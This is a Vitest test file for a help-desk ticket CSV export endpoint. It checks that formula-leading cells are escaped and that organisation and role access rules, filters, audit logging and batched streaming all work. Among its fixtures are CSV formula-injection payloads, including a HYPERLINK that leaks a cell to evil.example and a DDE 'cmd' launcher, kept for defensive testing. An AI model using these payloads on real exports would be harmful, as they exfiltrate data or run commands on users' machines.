import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { and, count, eq, sql } from 'drizzle-orm';
import { uuidv7 } from 'uuidv7';
import { auditLog } from '../../../platform/audit.js';
import type { Ctx } from '../../../platform/context.js';
import { csvCell, csvRow } from '../../../platform/csv.js';
import { createOrg, createTestApp, createUser, signedInUser, uniq, type TestApp } from '../../../../test/support/harness.js';
import { tickets } from '../tickets.tables.js';
import { EXPORT_BATCH, exportTicketsCsv, TICKET_CSV_COLUMNS } from './export.js';

type Signed = Awaited<ReturnType<typeof signedInUser>>;
type Org = { id: string; name: string };
let t: TestApp;
let orgA: Org;
let orgB: Org;
let agent: Signed;
let aAdmin: Signed;
let aUser: Signed;
let aColleague: Signed;
let bAdmin: Signed;
let categoryId: string;
const tag = uniq();
const INTERNAL = `internal-note-${tag} do not leak`;
const PUBLIC_REPLY = `public-reply-${tag}`;
const HOSTILE = [`=HYPERLINK("http://evil.example/?"&A1,"Click") ${tag}`, `+1+cmd|' /C calc'!A0 ${tag}`, `-2+3 ${tag}`, `@SUM(A1:A9) ${tag}`];
const open: Record<string, { id: string; ref: string }> = {};

/** An RFC 4180 parser: rows of cells, quotes and line breaks inside quoted cells; CRLF between rows. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') {
      expect(cell, 'a quote inside an unquoted cell').toBe('');
      quoted = true;
    } else if (ch === ',') row.push(cell), (cell = '');
    else if (ch === '\r' && text[i + 1] === '\n') row.push(cell), rows.push(row), (row = []), (cell = ''), i++;
    else if (ch === '\n' || ch === '\r') throw new Error(`bare line break at ${i}`);
    else cell += ch;
  }
  expect(quoted).toBe(false);
  if (cell !== '' || row.length) row.push(cell), rows.push(row);
  return rows;
}

async function exportAs(who: Signed, query: Record<string, string> = {}) {
  const res = await t.http({ method: 'GET', url: '/api/v1/tickets/export.csv', cookie: who.cookie, query });
  expect(res.statusCode, res.body).toBe(200);
  expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(res.headers['content-disposition']).toMatch(/^attachment; filename="portico-tickets-\d{4}-\d{2}-\d{2}\.csv"$/);
  const [header, ...rows] = parseCsv(res.body);
  expect(header).toEqual([...TICKET_CSV_COLUMNS]);
  for (const r of rows) expect(r).toHaveLength(TICKET_CSV_COLUMNS.length);
  const col = (name: (typeof TICKET_CSV_COLUMNS)[number]) => TICKET_CSV_COLUMNS.indexOf(name);
  return { body: res.body, rows, refs: rows.map((r) => r[col('reference')]!), col };
}

/** Every ticket the list endpoint answers for the same query, all pages. */
async function listRefs(who: Signed, query: Record<string, string>) {
  const refs: string[] = [];
  let cursor: string | null = null;
  do {
    const res = await t.http({ method: 'GET', url: '/api/v1/tickets', cookie: who.cookie, query: { ...query, limit: '7', ...(cursor ? { cursor } : {}) } });
    expect(res.statusCode, res.body).toBe(200);
    refs.push(...res.json().items.map((i: { ref: string }) => i.ref));
    cursor = res.json().nextCursor;
  } while (cursor);
  return refs;
}

const exportAudits = async (actorId: string) => Number((await t.deps.db.select({ n: count() }).from(auditLog).where(and(eq(auditLog.actorId, actorId), eq(auditLog.action, 'ticket.exported'))))[0]!.n);

beforeAll(async () => {
  t = await createTestApp();
  const provider = await createOrg(t, 'provider');
  orgA = await createOrg(t, 'customer', `Export A ${tag}`);
  orgB = await createOrg(t, 'customer', `Export B ${tag}`);
  [agent, aAdmin, aUser, aColleague, bAdmin] = await Promise.all([
    signedInUser(t, provider.id, 'provider_agent'),
    signedInUser(t, orgA.id, 'customer_admin'),
    signedInUser(t, orgA.id, 'customer_user'),
    signedInUser(t, orgA.id, 'customer_user'),
    signedInUser(t, orgB.id, 'customer_admin'),
  ]);
  categoryId = (await t.http({ method: 'GET', url: '/api/v1/ticket-categories', cookie: aUser.cookie })).json().items[0].id;
  const create = async (key: string, who: Signed, title: string, extra: Record<string, unknown> = {}) => {
    const res = await t.http({ method: 'POST', url: '/api/v1/tickets', cookie: who.cookie, payload: { title, description: `About ${key}`, categoryId, urgency: 'major', impact: 'few', ...extra } });
    expect(res.statusCode, res.body).toBe(201);
    open[key] = res.json();
  };
  for (const [i, title] of HOSTILE.entries()) await create(`hostile${i}`, aUser, title);
  await create('question', aUser, `A question, "quoted", ${tag}`, { kind: 'inquiry' });
  await create('colleague', aColleague, `Colleague only ${tag}`);
  await create('bravo', bAdmin, `Bravo secret ${tag}`);
  // An internal note and a public reply: the export carries ticket fields only, never a comment.
  for (const [body, internal] of [[INTERNAL, true], [PUBLIC_REPLY, false]] as const) {
    const res = await t.http({ method: 'POST', url: `/api/v1/tickets/${open.hostile0!.id}/comments`, cookie: agent.cookie, payload: { body, internal } });
    expect(res.statusCode, res.body).toBe(201);
  }
  // One assigned to the agent, one resolved, one surely unassigned (on a shared database, routing
  // may have given it to another test's agent).
  expect((await t.http({ method: 'POST', url: `/api/v1/tickets/${open.question!.id}/assign`, cookie: agent.cookie, payload: { assigneeId: null } })).statusCode).toBe(200);
  expect((await t.http({ method: 'POST', url: `/api/v1/tickets/${open.hostile1!.id}/assign`, cookie: agent.cookie, payload: { assigneeId: agent.id } })).statusCode).toBe(200);
  expect((await t.http({ method: 'POST', url: `/api/v1/tickets/${open.hostile2!.id}/status`, cookie: agent.cookie, payload: { status: 'resolved', resolutionCode: 'fixed', note: 'Done' } })).statusCode).toBe(200);
});
afterAll(async () => t?.close());

describe('csv cells', () => {
  it('neutralise = + - @ tab and CR at the start, quote what needs quoting, leave the rest alone', () => {
    expect(csvCell('=1+2')).toBe("'=1+2");
    expect(csvCell('+49 30 1234')).toBe("'+49 30 1234");
    expect(csvCell('-5')).toBe("'-5");
    expect(csvCell('@cmd')).toBe("'@cmd");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
    expect(csvCell('=a,"b"')).toBe(`"'=a,""b"""`);
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(false)).toBe('false');
    expect(csvCell(-3)).toBe("'-3");
    expect(csvCell(new Date('2026-01-02T03:04:05.000Z'))).toBe('2026-01-02T03:04:05.000Z');
    expect(csvRow(['a', '=b', null])).toBe("a,'=b,\r\n");
  });
});

describe('GET /api/v1/tickets/export.csv', () => {
  it('neutralises formula titles and parses back to exactly what the tickets hold', async () => {
    const { body, rows, col } = await exportAs(aUser);
    // No cell (quoted or not) starts with a formula character.
    for (const r of rows) for (const cell of r) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
    for (const [i, title] of HOSTILE.entries()) {
      const row = rows.find((r) => r[col('reference')] === open[`hostile${i}`]!.ref)!;
      expect(row[col('title')]).toBe(`'${title}`);
    }
    expect(body).not.toMatch(/(^|\r\n|,)"?[=+\-@]/);
    const q = rows.find((r) => r[col('reference')] === open.question!.ref)!;
    expect(q[col('title')]).toBe(`A question, "quoted", ${tag}`);
    expect(q[col('kind')]).toBe('inquiry');
    expect(q[col('organisation')]).toBe(orgA.name);
    expect(q[col('requester')]).toBe('Test customer_user');
    expect(q[col('status')]).toBe('new');
    expect(q[col('urgency')]).toBe('major');
    expect(q[col('priority')]).toMatch(/^P[1-4]$/);
    expect(q[col('category')]).not.toBe('');
    expect(Date.parse(q[col('created_at')]!)).not.toBeNaN();
    expect(Date.parse(q[col('first_response_due_at')]!)).toBeGreaterThan(Date.parse(q[col('created_at')]!));
    expect(q[col('first_response_breached')]).toBe('false');
    expect(q[col('resolution_breached')]).toBe('false');
    const assigned = rows.find((r) => r[col('reference')] === open.hostile1!.ref)!;
    expect(assigned[col('assignee')]).toBe('Test provider_agent');
    const resolved = rows.find((r) => r[col('reference')] === open.hostile2!.ref)!;
    expect(resolved[col('status')]).toBe('resolved');
    expect(Date.parse(resolved[col('resolved_at')]!)).not.toBeNaN();
    expect(Date.parse(resolved[col('first_responded_at')]!)).not.toBeNaN();
  });

  it('holds only what the caller may see: own tickets, the organisation’s for its admin, never another organisation’s, never a comment', async () => {
    const mine = await exportAs(aUser);
    expect(new Set(mine.refs)).toEqual(new Set([0, 1, 2, 3].map((i) => open[`hostile${i}`]!.ref).concat(open.question!.ref)));
    const admin = await exportAs(aAdmin, {});
    expect(new Set(admin.refs)).toEqual(new Set([...mine.refs, open.colleague!.ref]));
    const bravo = await exportAs(bAdmin);
    expect(bravo.refs).toEqual([open.bravo!.ref]);
    // Asking for another organisation's tickets gives nothing of theirs.
    const probe = await exportAs(aAdmin, { orgId: orgB.id });
    expect(probe.rows).toEqual([]);
    expect(probe.body).not.toContain('Bravo secret');
    const staff = await exportAs(agent, { orgId: orgA.id });
    expect(new Set(staff.refs)).toEqual(new Set(admin.refs));
    for (const e of [mine, admin, bravo, staff, await exportAs(agent)]) {
      expect(e.body).not.toContain(INTERNAL);
      expect(e.body).not.toContain(PUBLIC_REPLY);
      expect(e.body).not.toContain('About hostile');
    }
    for (const e of [mine, admin]) expect(e.body).not.toContain(`Bravo secret ${tag}`);
  });

  it('applies the list’s filters and queues: the same tickets as GET /api/v1/tickets', async () => {
    const cases: [Signed, Record<string, string>][] = [
      [aUser, {}],
      [aUser, { kind: 'inquiry' }],
      [aUser, { status: 'resolved' }],
      [aAdmin, { q: 'colleague' }],
      [aAdmin, { q: 'HYPERLINK', status: 'open' }],
      [agent, { orgId: orgA.id }],
      [agent, { orgId: orgA.id, queue: 'mine' }],
      [agent, { orgId: orgA.id, queue: 'unassigned' }],
      [agent, { orgId: orgA.id, queue: 'all_open', kind: 'incident' }],
      [agent, { orgId: orgA.id, categoryId }],
      [agent, { orgId: orgB.id, queue: 'all_open' }],
    ];
    for (const [who, query] of cases) {
      const e = await exportAs(who, query);
      expect(new Set(e.refs), JSON.stringify(query)).toEqual(new Set(await listRefs(who, query)));
    }
    expect((await exportAs(aUser, { kind: 'inquiry' })).refs).toEqual([open.question!.ref]);
    expect((await exportAs(aUser, { status: 'resolved' })).refs).toEqual([open.hostile2!.ref]);
    expect((await exportAs(agent, { orgId: orgA.id, queue: 'mine' })).refs).toEqual([open.hostile1!.ref]);
    const unassigned = (await exportAs(agent, { orgId: orgA.id, queue: 'unassigned' })).refs;
    expect(unassigned).not.toContain(open.hostile1!.ref); // assigned
    expect(unassigned).not.toContain(open.hostile2!.ref); // resolved
    expect(unassigned).toContain(open.question!.ref);
  });

  it('refuses bad filters with 400 naming the field, a queue to a customer with 403, and exports nothing then', async () => {
    const before = await exportAudits(aAdmin.id);
    for (const [query, path] of [
      [{ status: 'lost' }, 'querystring.status'],
      [{ kind: 'complaint' }, 'querystring.kind'],
      [{ orgId: 'acme' }, 'querystring.orgId'],
      [{ categoryId: '1' }, 'querystring.categoryId'],
      [{ queue: 'everything' }, 'querystring.queue'],
      [{ limit: '10' }, 'querystring.limit'],
      [{ cursor: 'abc' }, 'querystring.cursor'],
      [{ q: 'x'.repeat(201) }, 'querystring.q'],
    ] as [Record<string, string>, string][]) {
      const res = await t.http({ method: 'GET', url: '/api/v1/tickets/export.csv', cookie: aAdmin.cookie, query });
      expect(res.statusCode, JSON.stringify(query)).toBe(400);
      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(res.json().code).toBe('VALIDATION_FAILED');
      expect(res.json().errors.map((e: { path: string }) => e.path)).toContain(path);
    }
    const queue = await t.http({ method: 'GET', url: '/api/v1/tickets/export.csv', cookie: aAdmin.cookie, query: { queue: 'mine' } });
    expect(queue.statusCode).toBe(403);
    expect(queue.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect((await t.http({ method: 'GET', url: '/api/v1/tickets/export.csv' })).statusCode).toBe(401);
    expect(await exportAudits(aAdmin.id)).toBe(before);
  });

  it('is audited with its filters', async () => {
    const before = await exportAudits(agent.id);
    await exportAs(agent, { orgId: orgA.id, queue: 'unassigned', kind: 'incident' });
    expect(await exportAudits(agent.id)).toBe(before + 1);
    const [entry] = await t.deps.db.select().from(auditLog).where(and(eq(auditLog.actorId, agent.id), eq(auditLog.action, 'ticket.exported'))).orderBy(sql`${auditLog.at} desc`).limit(1);
    expect(entry).toMatchObject({ orgId: orgA.id, targetType: 'ticket', after: { format: 'csv', filters: { orgId: orgA.id, queue: 'unassigned', kind: 'incident' } } });
    await exportAs(bAdmin);
    const [own] = await t.deps.db.select().from(auditLog).where(and(eq(auditLog.actorId, bAdmin.id), eq(auditLog.action, 'ticket.exported')));
    expect(own).toMatchObject({ orgId: orgB.id, actorEmail: bAdmin.email });
  });

  it('streams a large organisation in batches, every ticket once, also when many share a timestamp', async () => {
    const org = await createOrg(t, 'customer', `Export big ${tag}`);
    const requester = await createUser(t, org.id, 'customer_admin');
    const total = EXPORT_BATCH * 2 + 37;
    const same = new Date('2025-05-05T05:05:05.555Z');
    const base = 9_000_000_000 + Math.floor(Math.random() * 1_000_000_000);
    const values = Array.from({ length: total }, (_, i) => ({
      id: uuidv7(),
      orgId: org.id,
      kind: 'inquiry',
      number: base + i,
      ref: `XPT${tag}${String(i).padStart(5, '0')}`,
      title: i % 3 === 0 ? `=cmd ${i}` : `Bulk ${i}`,
      description: 'generated',
      categoryId,
      urgency: 'minor',
      impact: 'few',
      priority: 'P4',
      requesterId: requester.id,
      firstResponseMinutes: 60,
      resolutionMinutes: 600,
      // Most share one timestamp (to the microsecond): the keyset must still visit each once.
      createdAt: i < EXPORT_BATCH + 200 ? same : new Date(same.getTime() + i * 1000),
    }));
    for (let i = 0; i < values.length; i += 250) await t.deps.db.insert(tickets).values(values.slice(i, i + 250));

    const ctx = {
      db: t.deps.db,
      actor: { userId: requester.id, email: requester.email, name: 'Big', orgId: org.id, orgKind: 'customer', orgName: org.name, role: 'customer_admin', permissions: new Set(['tickets.read_org', 'tickets.create']), locale: 'en', timeZone: 'UTC' },
      via: 'session',
      sessionId: null,
      mfa: 'ok',
      requestId: `req-${tag}`,
      ip: null,
      userAgent: null,
      log: console,
    } as unknown as Ctx;
    const chunks: string[] = [];
    for await (const chunk of exportTicketsCsv(ctx, {})) chunks.push(chunk);
    // The header, then one chunk per batch: never the whole set in one piece.
    expect(chunks).toHaveLength(1 + Math.ceil(total / EXPORT_BATCH));
    const [, ...rows] = parseCsv(chunks.join(''));
    const refs = rows.map((r) => r[0]!);
    expect(refs).toHaveLength(total);
    expect(new Set(refs).size).toBe(total);
    expect(rows.filter((r) => r[2]!.startsWith("'=cmd")).length).toBe(Math.ceil(total / 3));
    // Newest first.
    expect(refs[0]).toBe(`XPT${tag}${String(total - 1).padStart(5, '0')}`);
  });
});
